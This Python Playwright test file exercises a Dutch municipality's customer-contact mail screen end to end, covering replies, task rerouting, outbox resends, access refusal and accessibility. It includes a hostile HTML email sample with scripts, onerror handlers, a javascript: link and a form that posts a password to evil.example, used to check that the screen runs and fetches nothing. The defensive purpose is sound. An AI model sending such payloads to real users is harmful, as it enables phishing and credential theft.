"""The KCC's screen in a real Chromium, as the people who use it: `kcc-mail run` on loopback with a private
Dovecot for the mailbox, an aiosmtpd server for the replies and a real OpenID Connect provider for sign-in.

Anna (kcc) answers a mail that arrived by IMAP and the customer's server receives the reply, threaded; Bram
(afdeling Vergunningen) reroutes the interne taak Anna made; Carla (beheer) resends a reply whose fate was
uncertain; Dirk (no role) is refused. Hostile HTML runs nothing and fetches nothing. Every page passes axe-core
without a serious or critical violation. Screenshots of the pages land in test-artifacts/screenshots/.
"""

from __future__ import annotations

import email
import os
import re
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from email.policy import default as default_policy
from pathlib import Path
from typing import Any

import httpx
import oidc_provider_mock
import pytest
from axe_playwright_python.sync_playwright import Axe
from kcc_cli import end_session, start_kcc_mail, write_config
from playwright.sync_api import sync_playwright
from support.dovecot import ImapUser, PrivateDovecot
from support.smtpserver import SmtpTestServer
from support.web import free_port, serving

from kcc.bootstrap import App

CHROMIUM = Path(os.environ.get("KCC_TEST_CHROMIUM", "/usr/bin/chromium"))
ARTIFACTS = Path(os.environ.get("KCC_TEST_ARTIFACTS", Path(__file__).resolve().parents[2] / "test-artifacts"))
SECRET = "browser-test-session-secret-of-enough-length"

PEOPLE = {
    "anna": {"email": "anna@gemeente.example", "name": "Anna de Vries", "groups": ["kcc-medewerkers"]},
    "bram": {"email": "bram@gemeente.example", "name": "Bram Jansen", "groups": ["afdeling-Vergunningen"]},
    "carla": {"email": "carla@gemeente.example", "name": "Carla Smit", "groups": ["kcc-beheer"]},
    "dirk": {"email": "dirk@gemeente.example", "name": "Dirk Visser", "groups": ["kantine"]},
}

def customer_mail(subject: str, body: str, *, message_id: str, html: str = "") -> bytes:
    """A mail from Karel as his mail program sends it: text, or text and HTML."""
    head = (f"From: Karel de Boer <karel@example.nl>\r\nTo: info@gemeente.example\r\nSubject: {subject}\r\n"
            f"Message-ID: <{message_id}>\r\nDate: Tue, 01 Dec 2026 09:12:00 +0100\r\nMIME-Version: 1.0\r\n")
    if not html:
        return (head + f"Content-Type: text/plain; charset=utf-8\r\n\r\n{body}\r\n").encode()
    return (head + 'Content-Type: multipart/alternative; boundary="grens"\r\n\r\n'
            f"--grens\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{body}\r\n"
            f"--grens\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n--grens--\r\n").encode()


@dataclass
class Service:
    """`kcc-mail run` with its web screen, and the peers it talks to."""

    url: str
    imap: ImapUser
    smtp: SmtpTestServer
    log: Path


@pytest.fixture(scope="module")
def identity_provider() -> Iterator[str]:
    users = [oidc_provider_mock.User(sub=sub, claims=claims) for sub, claims in PEOPLE.items()]
    with oidc_provider_mock.run_server_in_thread(user_claims=users) as server:
        yield f"http://localhost:{server.server_port}"


@pytest.fixture(scope="module")
def service(
    database_url: str, dovecot: PrivateDovecot, identity_provider: str, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Service]:
    directory = tmp_path_factory.mktemp("browser")
    imap = dovecot.new_user("kcc")
    smtp = SmtpTestServer()
    smtp.start()
    port = free_port()
    write_config(
        directory, database_url, imap=imap, smtp_port=smtp.port, mailbox_extra="poll_interval = 1\n",
        web=f'listen = "127.0.0.1:{port}"\nauth = "oidc"\nsession_secret_env = "KCC_WEB_SESSION_SECRET"\n'
            "refresh_seconds = 1\n",
        extra=(
            "[storage]\nmax_mail_bytes = 200000\n\n"  # a larger mail goes to quarantine (too_large)
            "[replies]\nrelay_interval = 0.5\n\n"
            f'[web.oidc]\nissuer = "{identity_provider}"\nclient_id = "kcc-mail"\n'
            'client_secret_env = "KCC_OIDC_CLIENT_SECRET"\n'
        ),
    )
    init = start_kcc_mail("init", cwd=directory, log=directory / "init.log")
    assert init.wait(timeout=120) == 0, (directory / "init.log").read_text()
    log = directory / "run.log"
    process = start_kcc_mail("run", cwd=directory, log=log, env={"KCC_WEB_SESSION_SECRET": SECRET,
                                                                 "KCC_OIDC_CLIENT_SECRET": "client-secret"})
    url = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + 60
        while True:
            assert process.poll() is None, f"kcc-mail run stopped: {log.read_text()}"
            try:
                if httpx.get(f"{url}/gezond", timeout=2).status_code == 200:
                    break
            except httpx.TransportError:
                pass
            assert time.monotonic() < deadline, f"the screen did not answer within 60 s: {log.read_text()}"
            time.sleep(0.2)
        assert f"web screen: {url}/" in log.read_text(), "kcc-mail run does not say where its screen is"
        yield Service(url, imap, smtp, log)
    finally:
        end_session(process)
        smtp.stop()


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    if not CHROMIUM.exists():
        pytest.fail(f"no Chromium at {CHROMIUM}: install Debian's chromium (apt-get install chromium)")
    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=str(CHROMIUM), headless=True)
        yield chromium
        chromium.close()


@dataclass
class Seen:
    """What one person's browser did: every address it asked for, every dialog a script opened."""

    requests: list[str]
    dialogs: list[str]


@pytest.fixture
def sign_in(browser: Any, service: Service, request: pytest.FixtureRequest) -> Iterator[Callable[[str], Any]]:
    """A fresh browser (its own cookies) per person, signed in at the identity provider by clicking their name."""
    contexts: list[Any] = []

    def person(sub: str) -> Any:
        context = browser.new_context(base_url=service.url, locale="nl-NL", viewport={"width": 1280, "height": 900})
        contexts.append(context)
        page = context.new_page()
        page.seen = Seen([], [])
        page.on("request", lambda r: page.seen.requests.append(r.url))
        page.on("dialog", lambda d: (page.seen.dialogs.append(d.message), d.dismiss()))
        page.goto("/")
        page.get_by_role("button", name=sub, exact=True).click()
        page.wait_for_url(re.compile(re.escape(service.url) + r"/(werkvoorraad|taken|beheer|account)"))
        page.seen.requests.clear()  # from here on only kcc-mail's pages
        return page

    yield person
    for context in contexts:
        context.close()


def shoot(page: Any, name: str) -> None:
    """A screenshot of the whole page, kept as a test artifact (and for the README)."""
    folder = ARTIFACTS / "screenshots"
    folder.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(folder / f"{name}.png"), full_page=True)


def accessible(page: Any) -> None:
    """axe-core on the page as it is: no violation of impact serious or critical."""
    results = Axe().run(page)
    bad = [f"{v['id']} ({v['impact']}): {v['help']} at {[n['target'] for n in v['nodes']][:3]}"
           for v in results.response["violations"] if v.get("impact") in ("serious", "critical")]
    assert not bad, f"{page.url}: " + "; ".join(bad)


def open_mail(page: Any, subject: str, *, within: float = 60) -> None:
    """Wait on the werkvoorraad, without reloading it, until the mail is listed; then open it."""
    page.goto("/werkvoorraad")
    page.get_by_role("link", name=subject).wait_for(timeout=within * 1000)
    page.get_by_role("link", name=subject).click()
    page.get_by_role("heading", level=1, name=subject).wait_for()


def wait_for(condition: Callable[[], Any], what: str, within: float = 60) -> Any:
    deadline = time.monotonic() + within
    while True:
        value = condition()
        if value:
            return value
        assert time.monotonic() < deadline, f"{what} did not happen within {within:g} s"
        time.sleep(0.2)


def received_for(smtp: SmtpTestServer, message_id: str) -> list[email.message.EmailMessage]:
    messages = [email.message_from_bytes(m.data, policy=default_policy) for m in smtp.messages]
    return [m for m in messages if m["In-Reply-To"] == f"<{message_id}>"]  # type: ignore[misc]


def test_an_employee_answers_a_mail_that_came_by_imap_and_the_customer_receives_it_threaded(
    service: Service, sign_in: Callable[[str], Any]
) -> None:
    anna = sign_in("anna")
    assert anna.url.endswith("/werkvoorraad")
    accessible(anna)
    subject = f"Vraag over de afvalkalender {service.imap.name}"
    service.imap.append(customer_mail(subject, "Wanneer wordt het oud papier opgehaald?",
                                      message_id=f"afval-{service.imap.name}@example.nl"))
    anna.get_by_role("link", name=subject).wait_for(timeout=60_000)  # no reload: the list keeps itself current
    assert "1 nieuwe mail" in anna.locator("#werkvoorraad-nieuw").inner_text()
    shoot(anna, "werkvoorraad")
    open_mail(anna, subject)
    assert anna.get_by_text("Wanneer wordt het oud papier opgehaald?").is_visible()
    assert anna.get_by_role("status").filter(has_text="U heeft deze mail in behandeling").is_visible()
    shoot(anna, "mail")
    accessible(anna)

    anna.get_by_label("Tekst van uw antwoord").fill("Het oud papier wordt elke tweede woensdag van de maand opgehaald.")
    anna.get_by_role("button", name="Voorbeeld bekijken").click()
    preview = anna.locator("#voorbeeld")
    assert "karel@example.nl" in preview.inner_text()
    assert f"Re: {subject}" in preview.inner_text()
    assert "elke tweede woensdag" in preview.inner_text()
    accessible(anna)
    anna.get_by_role("button", name="Verzenden").click()
    anna.get_by_role("status").filter(has_text="klaargezet voor verzending").wait_for()  # the next page says it

    replies = wait_for(lambda: received_for(service.smtp, f"afval-{service.imap.name}@example.nl"),
                       "the reply reaching the customer's server")
    assert len(replies) == 1
    reply = replies[0]
    assert [a.addr_spec for a in reply["To"].addresses] == ["karel@example.nl"]
    assert reply["Subject"] == f"Re: {subject}"
    assert f"<afval-{service.imap.name}@example.nl>" in str(reply["References"])
    body = reply.get_body(("plain",))
    assert body is not None and "elke tweede woensdag" in body.get_content()

    anna.goto("/klantcontacten")
    accessible(anna)
    shoot(anna, "klantcontacten")
    anna.get_by_role("row", name=re.compile(re.escape(subject))).first.get_by_role("link").first.click()
    assert anna.get_by_text("elke tweede woensdag").first.is_visible(), "the dossier lacks our reply"
    accessible(anna)
    shoot(anna, "klantcontact")


def test_a_colleague_of_the_afdeling_sees_the_taak_and_reroutes_it(
    service: Service, sign_in: Callable[[str], Any]
) -> None:
    subject = f"Terugbellen over mijn vergunning {service.imap.name}"
    service.imap.append(customer_mail(subject, "Bel mij terug over de dakkapel, 06-12345678.",
                                      message_id=f"vergunning-{service.imap.name}@example.nl"))
    anna = sign_in("anna")
    open_mail(anna, subject)
    anna.get_by_label("Gevraagde handeling").select_option("Terugbellen")
    anna.get_by_label("Toelichting").fill("Graag vandaag nog terugbellen.")
    anna.get_by_label("Of een andere afdeling", exact=True).first.fill("Vergunningen")
    anna.get_by_role("button", name="Registreren en doorzetten").click()
    anna.get_by_role("status").filter(has_text="doorgezet naar Vergunningen").wait_for()  # the next page says it

    bram = sign_in("bram")
    assert bram.url.endswith("/taken")
    accessible(bram)
    shoot(bram, "taken")
    bram.get_by_role("link", name="Taken van mijn afdeling").click()
    bram.get_by_role("link", name="Terugbellen").first.click()
    assert bram.get_by_role("definition").filter(has_text="Graag vandaag nog terugbellen.").is_visible()
    assert "Bel mij terug over de dakkapel" in bram.content(), "the taak does not show the mail"
    accessible(bram)
    shoot(bram, "taak")
    bram.get_by_label("Of een andere afdeling").fill("Bouwzaken")
    bram.get_by_role("button", name="Doorsturen").click()
    bram.get_by_role("status").filter(has_text="Bouwzaken").wait_for()  # the next page says it
    bram.goto("/taken?tab=afdeling")
    assert bram.get_by_text("Geen taken.").is_visible(), "the rerouted taak is still with Vergunningen"


def test_a_beheerder_resends_a_reply_whose_fate_was_uncertain(
    service: Service, sign_in: Callable[[str], Any]
) -> None:
    subject = f"Parkeervergunning {service.imap.name}"
    message_id = f"parkeren-{service.imap.name}@example.nl"
    service.imap.append(customer_mail(subject, "Is mijn parkeervergunning al verlengd?", message_id=message_id))
    service.smtp.script(drop_on_data=1)
    anna = sign_in("anna")
    open_mail(anna, subject)
    anna.get_by_label("Tekst van uw antwoord").fill("Ja, uw vergunning is verlengd tot 1 december 2027.")
    anna.get_by_role("button", name="Voorbeeld bekijken").click()
    anna.get_by_role("button", name="Verzenden").click()
    wait_for(lambda: service.smtp.dropped == 1, "the connection dropped after the end of DATA")

    carla = sign_in("carla")
    accessible(carla)
    shoot(carla, "beheer")
    row = carla.locator("tbody tr", has_text="onzeker")

    def uncertain() -> bool:
        carla.goto("/beheer/outbox")
        return row.count() == 1

    wait_for(uncertain, "the reply listed as onzeker")
    accessible(carla)
    shoot(carla, "outbox")
    assert not received_for(service.smtp, message_id), "the relay resent an uncertain reply by itself"
    row.get_by_role("button", name=re.compile("opnieuw verzenden", re.I)).click()
    replies = wait_for(lambda: received_for(service.smtp, message_id), "the resent reply reaching the server")
    assert len(replies) == 1
    carla.get_by_role("link", name="Export", exact=True).first.click()
    assert "De export staat uit" in carla.content(), "the export is off here: the page says so"
    waiting = carla.locator("table").first.locator("tbody td").first.inner_text()
    assert int(waiting) >= 2, "the question and our answer wait for the export to be switched on"
    accessible(carla)
    shoot(carla, "export")
    big = customer_mail(f"Foto's {service.imap.name}", "x" * 250_000, message_id=f"groot-{service.imap.name}@x.nl")
    service.imap.append(big)

    def quarantined() -> bool:
        carla.goto("/beheer/quarantaine")
        return carla.get_by_role("link", name=f"Foto's {service.imap.name}").count() == 1

    wait_for(quarantined, "the mail over storage.max_mail_bytes in quarantine")
    accessible(carla)
    carla.get_by_role("link", name=f"Foto's {service.imap.name}").click()
    accessible(carla)
    shoot(carla, "quarantaine-mail")
    with carla.expect_download() as download:
        carla.get_by_role("link", name="Originele mail downloaden (.eml)").click()
    assert Path(download.value.path()).read_bytes() == big, "the download is not the mail as it came in"


def test_someone_without_a_role_is_refused_every_screen(service: Service, sign_in: Callable[[str], Any]) -> None:
    dirk = sign_in("dirk")
    assert dirk.url.endswith("/account")
    accessible(dirk)
    for path in ("/werkvoorraad", "/taken", "/beheer", "/beheer/outbox", "/klantcontacten"):
        response = dirk.goto(path)
        assert response is not None and response.status == 403, path
        assert dirk.get_by_role("heading", level=1).is_visible()
    accessible(dirk)


HOSTILE_HTML = """<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/weg">
<style>body { background: url(https://evil.example/css.png) }</style>
<script>window.parent.postMessage('script ran', '*'); alert('script ran')</script></head>
<body><p>Beste KCC, mijn <b>container</b> is niet geleegd.</p>
<img src="https://evil.example/pixel.gif" onerror="alert('onerror ran')">
<img src="x" onerror="alert('onerror ran')">
<a href="javascript:alert('link ran')">klik hier</a>
<div style="background-image: url('https://evil.example/div.png')">achtergrond</div>
<form action="https://evil.example/steal" method="post"><input name="wachtwoord"><button>Verstuur</button></form>
<iframe src="https://evil.example/frame"></iframe>
<link rel="stylesheet" href="https://evil.example/style.css">
</body></html>"""


def test_hostile_html_runs_nothing_and_fetches_nothing_but_stays_readable(
    service: Service, sign_in: Callable[[str], Any]
) -> None:
    subject = f"Container niet geleegd {service.imap.name}"
    service.imap.append(customer_mail(subject, "Beste KCC, mijn container is niet geleegd.",
                                      message_id=f"container-{service.imap.name}@example.nl", html=HOSTILE_HTML))
    anna = sign_in("anna")
    open_mail(anna, subject)
    frame = anna.frame_locator("iframe.kcc-mailframe")
    frame.get_by_text("container").first.wait_for()
    assert "is niet geleegd" in frame.locator("body").inner_text()
    frame.get_by_text("klik hier").click()
    anna.wait_for_timeout(1500)  # a refresh, a script or a click that escaped would have acted by now
    shoot(anna, "mail-html")
    accessible(anna)
    outside = [url for url in anna.seen.requests if not url.startswith((service.url, "about:", "data:"))]
    assert outside == [], f"the browser fetched from outside: {outside}"
    assert anna.seen.dialogs == [], f"a script ran: {anna.seen.dialogs}"
    assert anna.url.startswith(f"{service.url}/mail/"), "the page was navigated away"

    mail_path = anna.url.split("#")[0].removeprefix(service.url)
    csrf_less = anna.request.post(f"{mail_path}/registreren", form={"x": "1"}, max_redirects=0)
    assert csrf_less.status == 403
    anna.goto(mail_path)
    assert anna.get_by_role("heading", name="Beslissen").is_visible(), "a POST without its token decided"


def test_a_mail_can_be_decided_with_the_keyboard_alone(service: Service, sign_in: Callable[[str], Any]) -> None:
    subject = f"Alleen toetsenbord {service.imap.name}"
    service.imap.append(customer_mail(subject, "Graag een bevestiging.", message_id=f"toets-{service.imap.name}@x.nl"))
    anna = sign_in("anna")
    open_mail(anna, subject)
    anna.keyboard.press("Tab")
    assert anna.evaluate("document.activeElement.textContent.trim()") == "Naar de inhoud", "no skip link first"
    for _ in range(120):
        anna.keyboard.press("Tab")
        focused = anna.evaluate("""() => { const e = document.activeElement; const r = e.getBoundingClientRect();
            return {text: e.textContent.trim(), visible: r.width > 0 && r.height > 0,
                    outline: getComputedStyle(e).outlineStyle}; }""")
        assert focused["visible"], f"focus went to something invisible: {focused}"
        if focused["text"] == "Registreren zonder vervolg":
            assert focused["outline"] != "none", "the focused button shows no focus"
            break
    else:
        raise AssertionError("Tab never reached the button Registreren zonder vervolg")
    with anna.expect_navigation():
        anna.keyboard.press("Enter")
    anna.get_by_role("status").filter(has_text="Geregistreerd").wait_for()


def test_the_development_sign_in_says_what_it_is_and_passes_axe(app: App, browser: Any) -> None:
    with serving(app) as site:
        context = browser.new_context(base_url=site.url)
        page = context.new_page()
        page.goto("/")
        assert page.url.endswith("/aanmelden?terug=/") or "/aanmelden" in page.url
        assert page.get_by_role("note").filter(has_text="Ontwikkel-aanmelding staat aan").is_visible()
        accessible(page)
        shoot(page, "aanmelden-ontwikkeling")
        page.get_by_label("Naam").fill("Eva Jansen")
        page.get_by_label("E-mailadres").fill("eva@gemeente.nl")
        page.get_by_label("KCC-medewerker").check()
        page.get_by_role("button", name="Aanmelden").click()
        page.get_by_role("heading", level=1, name="Werkvoorraad e-mail").wait_for()
        assert page.get_by_text("Eva Jansen").first.is_visible()
        assert page.get_by_role("note").filter(has_text="Ontwikkel-aanmelding staat aan").is_visible()
        context.close()
